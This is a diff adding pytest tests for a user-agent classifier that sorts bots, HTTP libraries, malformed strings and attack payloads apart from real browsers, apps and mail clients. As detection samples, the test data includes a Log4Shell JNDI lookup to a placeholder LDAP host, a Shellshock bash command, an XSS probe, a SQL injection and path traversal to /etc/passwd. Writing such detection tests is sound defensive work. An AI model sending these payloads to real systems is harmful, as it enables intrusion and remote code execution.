@@ -1,0 +1,150 @@
+"""Family rules (issue 27): each machine family caught by what it is, not by a listed
+name; people the families must leave alone; products named as people know them.
+
+The strings are written for these tests (no collection's string is copied here); the
+table test measures the same rules on the public collections."""
+
+import pytest
+
+from service.tracking.classify import _PLATFORM_COMMENT, Classifier
+from tests import ua_table
+
+CLASSIFIER = Classifier.from_files()
+
+
+@pytest.mark.parametrize(
+    ("user_agent", "reason"),
+    [
+        ("${jndi:ldap://203.0.113.9:1389/a}", "attack_payload"),
+        ("() { :; }; /bin/bash -c 'id'", "attack_payload"),
+        ("<script>alert(document.domain)</script>", "attack_payload"),
+        ("Mozilla/5.0' OR 1=1 --", "attack_payload"),
+        ("Mozilla/5.0 (Windows NT 10.0) ../../../../etc/passwd", "attack_payload"),
+        (
+            "Mozilla/5.0 (platform; rv:geckoversion) Gecko/geckotrail Firefox/firefoxversion",
+            "malformed",
+        ),
+        ("Zorblax/2.1 (+https://zorblax.example.net/about)", "bot_url"),
+        ("Zorblax Harvest Service (ops@zorblax.example.org)", "bot_url"),
+        ("ZorblaxLinkCheck/1.0", "bot"),
+        ("Zorblax-Synthetics/3.2", "bot"),
+        ("Mozilla/5.0 (compatible; Zorblax/1.0)", "bot"),
+        (
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Zorblax-Renderer) "
+            "Chrome/120.0.0.0 Safari/537.36",
+            "bot",
+        ),
+        ("zorblax-http-client/0.4", "http_library"),
+        ("Zorblax-SDK/5.1 (build 12)", "http_library"),
+    ],
+)
+def test_each_machine_family_is_caught_by_what_it_is(user_agent, reason) -> None:
+    found = CLASSIFIER.user_agent(user_agent)
+    assert (found.machine_reason, found.client) == (reason, None)
+
+
+CUBOT_PHONE = (
+    "Mozilla/5.0 (Linux; Android 12; CUBOT KINGKONG 9 Build/SP1A) AppleWebKit/537.36 "
+    "(KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"
+)
+M_BOT_PHONE = (
+    "Mozilla/5.0 (Linux; Android 13; M bot 60 Build/TP1A) AppleWebKit/537.36 "
+    "(KHTML, like Gecko) Chrome/121.0.0.0 Mobile Safari/537.36"
+)
+ELECTRON_APP = (
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Notion/3.1.0 Chrome/120.0.0.0 Electron/28.1.0 Safari/537.36"
+)
+WEBVIEW_APP = (
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A; wv) AppleWebKit/537.36 "
+    "(KHTML, like Gecko) Version/4.0 Chrome/120.0.0.0 Mobile Safari/537.36 MailMaster/7.1"
+)
+COMPANY_BUILD = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 (EXAMPLE.DE/2.0) "
+    "Firefox/115.0"
+)
+
+
+@pytest.mark.parametrize(
+    ("person", "machine", "reason"),
+    [
+        # "bot" inside a device model of a phone's platform comment; the same phone's
+        # string carrying a robot's token is a robot
+        (CUBOT_PHONE, CUBOT_PHONE + " ZorblaxPreview/2.1", "bot"),
+        (M_BOT_PHONE, M_BOT_PHONE + " Zorblax-Monitor/1.0", "bot"),
+        # an Electron app and an Android WebView app are people; an attack payload in
+        # their form is still an attack
+        (ELECTRON_APP, ELECTRON_APP + " ${jndi:ldap://203.0.113.9/a}", "attack_payload"),
+        (
+            WEBVIEW_APP,
+            WEBVIEW_APP.replace("Mozilla/5.0", "Mozilla/5.0 ../../etc/passwd"),
+            "attack_payload",
+        ),
+        # a desktop browser build with a company's site in a comment; a robot's string
+        # with a site and no system is a robot
+        (COMPANY_BUILD, "Zorblax/1.0 (EXAMPLE.DE/2.0)", "bot_url"),
+    ],
+)
+def test_the_families_stop_at_people_next_to_the_machines(person, machine, reason) -> None:
+    assert CLASSIFIER.user_agent(person).machine_reason is None
+    assert CLASSIFIER.user_agent(machine).machine_reason == reason
+
+
+@pytest.mark.parametrize(
+    ("user_agent", "client"),
+    [
+        (
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
+            "(KHTML, like Gecko)",
+            "Apple Mail",
+        ),
+        (
+            "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+            "Mobile/15E148 jp.co.yahoo.ymail/8.2.0",
+            "Yahoo Mail",
+        ),
+        (
+            "Mozilla/5.0 (Windows NT 10.0; rv:10.0) Gecko/20110902 Prism zdesktop/7.2.8",
+            "Zimbra Desktop",
+        ),
+        (
+            "Mozilla/5.0 (Windows NT 6.1; rv:38.0) Gecko/20100101 Firefox/38.9 FossaMail/25.2.1",
+            "FossaMail",
+        ),
+    ],
+)
+def test_mail_clients_are_named_as_people_know_them(user_agent, client) -> None:
+    found = CLASSIFIER.user_agent(user_agent)
+    assert (found.client, found.machine_reason) == (client, None)
+
+
+# People of the table a family rule reaches, reviewed: a podcast app that puts only its
+# site in its user agent, as crawlers do (indistinguishable by its form).
+KNOWN_PEOPLE_HIT = {"bot_url": {"Bullhorn (https://bullhorn.fm)"}}
+
+
+def test_no_family_rule_fires_on_the_people_of_the_table() -> None:
+    """Every machine family against every browser, app, mail client and image proxy of
+    the labelled table (issue 27, point 3), rule by rule, wherever it sits in the order."""
+    people = [r.user_agent for r in ua_table.load() if r.kind in ua_table.PEOPLE]
+    families = [
+        *CLASSIFIER._early_families.rules(),
+        *((reason, family, True) for reason, family in CLASSIFIER._families.rules()),
+    ]
+    assert {f[0] for f in families} >= {
+        "attack_payload",
+        "malformed",
+        "bot_url",
+        "bot",
+        "http_library",
+    }
+    for reason, family, *late in families:
+        hit = {
+            ua
+            for ua in people
+            if not CLASSIFIER._people_app(ua)
+            and "ImageProxy" not in ua
+            and "MailProxy" not in ua  # the proxies are decided before any family
+            and family(ua, _PLATFORM_COMMENT.sub("", ua, count=1) if late else ua)
+        }
+        assert hit <= KNOWN_PEOPLE_HIT.get(reason, set()), (reason, sorted(hit)[:5])
